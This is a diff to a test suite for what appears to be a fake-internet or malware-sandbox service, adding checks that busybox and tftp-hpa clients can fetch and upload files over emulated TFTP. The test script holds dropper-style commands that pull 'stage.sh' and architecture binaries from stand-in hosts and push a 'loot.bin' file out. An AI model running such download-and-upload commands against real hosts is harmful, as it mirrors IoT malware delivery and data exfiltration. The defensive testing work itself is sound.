@@ -117,6 +117,10 @@ curl -sS --max-time 20 -o tftp.pdf tftp://tftp.example/boot/stage.pdf; echo $? >
 curl -sS --max-time 20 -o tftp.bin tftp://tftp.example/mips; echo $? > tftp_bin.rc
 head -c 5000 /dev/urandom > upload.bin
 curl -sS --max-time 20 -T upload.bin tftp://tftp.example/loot.bin; echo $? > tftp_put.rc
+busybox tftp -g -r bins/x86 -l busybox.bin tftp-busybox.example 2> busybox.err; echo $? > tftp_busybox.rc
+printf 'one\ntwo\n' > notes.txt
+tftp tftp-hpa.example -c get stage.sh hpa.sh 2> hpa.err; echo $? > tftp_hpa_get.rc
+tftp tftp-hpa.example -c put notes.txt 2> hpa.err; echo $? > tftp_hpa_put.rc
 for ext in $EXTENSIONS; do
     wget -q -T 20 -O "payload.$ext" "http://dl.example/files/stage.$ext"; echo $? > "wget_$ext.rc"
 done
@@ -252,6 +256,18 @@ def test_tftp_get_serves_by_extension_and_put_is_kept(run):
     assert len(write) == 1 and write[0]["file"] == "loot.bin" and write[0]["size"] == 5000
     assert write[0]["sha256"] == hashlib.sha256(upload).hexdigest()
     assert (work / "uploads" / write[0]["sha256"]).read_bytes() == upload
+
+
+def test_tftp_clients_of_droppers_and_netascii_get_and_put_whole_files(run):
+    work, records = run
+    # busybox's client is the one IoT droppers carry; tftp-hpa speaks netascii by default.
+    assert rc(work, "tftp_busybox") == 0 and (work / "busybox.bin").read_bytes() == payloads.by_extension("elf")[1]
+    assert rc(work, "tftp_hpa_get") == 0 and (work / "hpa.sh").read_bytes() == payloads.by_extension("sh")[1]
+    assert rc(work, "tftp_hpa_put") == 0
+    logged(records, "tftp", "tftp-busybox.example", 69)
+    hpa = logged(records, "tftp", "tftp-hpa.example", 69)
+    assert [(r["operation"], r["mode"]) for r in hpa] == [("read", "netascii"), ("write", "netascii")]
+    assert hpa[1]["sha256"] == hashlib.sha256(b"one\ntwo\n").hexdigest()
 
 
 @pytest.mark.parametrize("reply, name, port", [("irc.json", "irc.example", 6667),
